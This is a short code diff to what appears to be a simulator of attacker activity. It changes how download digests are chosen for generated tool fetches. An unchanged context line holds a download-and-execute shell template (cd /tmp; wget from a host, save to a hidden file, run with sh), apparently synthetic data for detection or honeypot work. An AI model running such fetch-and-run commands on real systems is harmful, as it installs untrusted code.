@@ -179,7 +179,9 @@ def shell(world: World, tool: Tool, host: str) -> dict[str, Any]:
         return {"commands": commands}
     url = f"http://{host}/{tool.filename}"
     commands.append(f"cd /tmp; wget {url} -O .{random.getrandbits(32):08x}; sh {tool.filename}")
-    return {"commands": commands, "urls": [url], "downloads": [random.choice(tool.shasums)]}
+    # Of the tools that fewer use, every copy is built anew.
+    public = tool not in world.tools[8:]
+    return {"commands": commands, "urls": [url], "downloads": [tool.shasums[0] if public else fresh_digest(world)]}
 
 
 def fresh_digest(world: World) -> str:
